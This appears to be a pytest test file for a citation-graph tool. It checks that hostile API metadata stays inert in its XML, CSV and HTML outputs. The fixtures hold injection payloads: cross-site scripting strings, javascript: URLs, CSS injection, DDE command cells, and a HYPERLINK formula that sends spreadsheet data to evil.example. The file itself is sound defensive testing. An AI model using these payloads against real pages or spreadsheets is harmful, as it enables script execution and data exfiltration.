"""Hostile metadata from an API is inert in every output: the page runs nothing and links only to known hosts,
GraphML/GEXF stay valid XML, CSV cells cannot run as spreadsheet formulas."""
from __future__ import annotations

import csv
import xml.etree.ElementTree as ElementTree
from dataclasses import replace
from urllib.parse import urlsplit

import networkx as nx
import pytest

from graphx.build import build, write_outputs
from graphx.load import load_graph
from tests.e2e.conftest import open_page
from tests.support.openalex import openalex_handler, work
from tests.support.server import StandIn

SCRIPT_TITLE = '</script><script>alert("title")</script><img src=x onerror=alert(1)>'
FORMULA_TITLE = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for the PDF")'
EVENT_AUTHOR = '"><svg onload=alert(2)>'
ALLOWED_HOSTS = {"doi.org", "openalex.org", "arxiv.org", "www.semanticscholar.org"}


def hostile_works() -> list[dict]:
    seed = work(1, SCRIPT_TITLE, 2020, doi='10.1234/"><script>alert(5)</script>', authors=[EVENT_AUTHOR, "+cmd|' /C calc'!A0"],
                venue="javascript:alert(4)", abstract="An abstract with <iframe src=javascript:alert(6)></iframe> and \x00\x0b controls",
                references=[2, 3], keywords=["@SUM(1+1)*cmd|' /C calc'!A0", "</style><style>body{display:none}"])
    seed["primary_location"]["landing_page_url"] = "javascript:alert(7)"
    formula = work(2, FORMULA_TITLE, 2019, doi="10.1234/formula", authors=["-2+3"], abstract="Cells that look like formulas.")
    broken_text = work(3, "Null\x00 byte, vertical\x0b tab and a lone \ud800 surrogate", 2018, doi="10.1234/controls")
    return [seed, formula, broken_text]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile_build(fast_options, tmp_path):
    with StandIn(openalex_handler(hostile_works())) as server:
        result = build(["W1"], replace(fast_options, openalex_url=server.url))
    out = tmp_path / "out"
    write_outputs(result, out, title='<script>alert("heading")</script>')
    return result, out


def test_graphml_and_gexf_stay_valid_xml_with_the_text_kept(hostile_build):
    result, out = hostile_build
    # GEXF 1.3 through graphx's reader: networkx reads 1.3 only from 3.6 on (graphx supports 3.4)
    for name, reader in (("graph.graphml", nx.read_graphml), ("graph.gexf", load_graph)):
        ElementTree.parse(out / name)  # an independent, strict XML parser
        graph = reader(out / name)
        assert graph.nodes["W1"]["title"] == SCRIPT_TITLE
        assert graph.nodes["W3"]["title"] == "Null byte, vertical tab and a lone  surrogate"
    assert set(result.graph) == {"W1", "W2", "W3"}


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile_build):
    _, out = hostile_build
    for name in ("nodes.csv", "edges.csv", "central.csv", "resolution.csv"):
        for row in csv.reader((out / name).open(encoding="utf-8")):
            assert not any(cell.startswith(("=", "+", "-", "@")) and not is_number(cell) for cell in row), (name, row)
    titles = {row["id"]: row for row in csv.DictReader((out / "nodes.csv").open(encoding="utf-8"))}
    assert titles["W2"]["title"] == "'" + FORMULA_TITLE and titles["W2"]["authors"] == "'-2+3"
    assert titles["W1"]["keywords"].startswith("'@SUM(1+1)")


@pytest.mark.browser
def test_the_page_runs_nothing_from_the_metadata_and_links_only_to_known_hosts(hostile_build, browser):
    _, out = hostile_build
    page, events = open_page(browser, out / "graph.html")
    assert page.title() == '<script>alert("heading")</script> · graphx'
    for node in ("W1", "W2", "W3"):
        page.evaluate(f"window.graphx.network.selectNodes(['{node}'])")
        page.fill("#search", {"W1": "alert", "W2": "HYPERLINK", "W3": "surrogate"}[node])
        page.press("#search", "Enter")
        position = page.evaluate(f"window.graphx.network.canvasToDOM(window.graphx.network.getPosition('{node}'))")
        box = page.locator("#network canvas").bounding_box()
        page.mouse.move(box["x"] + position["x"], box["y"] + position["y"])  # the tooltip
        page.wait_for_timeout(400)
    assert page.locator("#panel h2").text_content().startswith("Null byte")
    hrefs = page.eval_on_selector_all("a[href]", "links => links.map(a => a.href)")
    assert hrefs, "the panel and tooltips carry links"
    for href in hrefs:
        parts = urlsplit(href)
        assert parts.scheme == "https" and parts.hostname in ALLOWED_HOSTS, href
    assert page.locator("body img, body svg, body iframe, #panel script").count() == 0
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert events["dialogs"] == [] and events["errors"] == []
    assert all(url.startswith("file:") for url in events["requests"])
